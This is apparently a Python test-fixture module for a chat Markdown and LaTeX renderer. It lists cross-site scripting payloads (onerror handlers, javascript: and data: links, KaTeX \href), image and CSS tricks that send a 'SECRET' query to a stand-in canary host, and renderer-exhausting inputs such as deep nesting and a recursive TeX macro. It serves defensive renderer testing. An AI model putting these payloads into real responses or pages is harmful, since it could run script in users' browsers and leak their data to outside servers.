"""Texts that have made other chats run a script, or ask another computer for something."""

import random

CANARY = "https://canary.test/?q=SECRET"

SCRIPTS = [
    '<iframe src="javascript:alert(1)"></iframe>',
    "<img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)><style>*{background:url(https://canary.test/)}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](\tjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '[x](https://a.test"onmouseover=alert(1))',
    '![a](x"onerror="alert(1))',
    '![a](https://canary.test/a"onerror="alert(1))',
    "![a](data:image/svg+xml;base64,PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x][y]\n\n[y]: https://a.test '\"><img src=x onerror=alert(1)>'",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img/src/onerror=alert(1)>\ncode\n```',
    "```svg\n<svg onload=alert(1)></svg>\n```",
    "`<img src=x onerror=alert(1)>`",
    "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
    "$\\htmlData{onclick=alert(1)}{x}$ $\\htmlClass{a}{x}$ $\\htmlStyle{color:red}{x}$",
    "$$\\includegraphics{https://canary.test/?q=SECRET}$$",
    "$<img src=x onerror=alert(1)>$",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <iframe src=javascript:alert(1)> |",
    "- [ ] <img src=x onerror=alert(1)>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "# <img src=x onerror=alert(1)>",
    "> <details open ontoggle=alert(1)>",
]

LEAKS = [
    f"![x]({CANARY})",
    f"![x][r]\n\n[r]: {CANARY}",
    f"[![x]({CANARY})](https://a.test)",
    f"<img src='{CANARY}'>",
    f"<picture><source srcset='{CANARY}'><img srcset='{CANARY} 2x'></picture>",
    f"<table background='{CANARY}'>",
    f"<div style='background:url({CANARY})'>",
    f"<link rel=prefetch href='{CANARY}'><link rel=stylesheet href='{CANARY}'>",
    f"<video poster='{CANARY}'></video>",
    f"[x]({CANARY})",
    f"<{CANARY}>",
    f"```mermaid\ngraph TD; A@{{img: '{CANARY}'}}\n```",
]

# Pieces that a heap of Markdown is made of
# fmt: off
SHARDS = [
    "# h\n", "a", "b c", "  ", "    ", "\n", "\n\n", "- ", "* ", "1. ", "> ", "```", "```py\n", "~~~\n",
    "$$", "$", "\\[", "\\]", "`", "*", "**", "_", "[a]", "[a]: http://x.y 'ti\n", "'", "[a]: http://z.w\n",
    "|", "| a | b |\n", "|---|-:|\n", "---\n", "===\n", "- [ ] t\n", "<b>", "![i](http://i.j)", "\\",
    "&amp;", "\r\n", "\r", "\t", "$x$", "\0", "\N{GRINNING FACE}",
]
# fmt: on

# What takes long, or goes deep, where a renderer is careless
HOSTILE = {
    "brackets": "(" * 100_000,
    "stars": "*" * 100_000,
    "quotes": "> " * 10_000 + "a",
    "tight quotes": ">" * 10_000 + "a",
    "a megabyte in a line": "word " * 200_000,
    "a megabyte in a word": "a" * 1_000_000,
    "deep lists": "".join("  " * depth + "- x\n" for depth in range(1000)),
    "deep lists in a line": "- " * 10_000 + "x",
    "deep emphasis": " ".join(["**a"] * 25_000) + "**" * 25_000,
    "open links": "[a](" * 50_000,
    "open images": "![" * 50_000,
    "open code": "".join("`" * length + " " for length in range(1000)),
    "dollars": "$a " * 300_000,
    "pairs of dollars": "$$a " * 5_000,
    "parentheses of TeX": "\\(" * 100_000,
    "columns": "|" * 50_000 + "\n" + "|-" * 50_000,
    "deep formula": "$" + "{" * 9_000 + "x" + "}" * 9_000 + "$",
    "a formula without an end": "$\\def\\a{\\a\\a}\\a$",
}


def cut(text: str, longest: int, seed: int) -> list[str]:
    chance, pieces = random.Random(seed), []
    while text:
        size = chance.randint(1, longest)
        pieces.append(text[:size])
        text = text[size:]
    return pieces
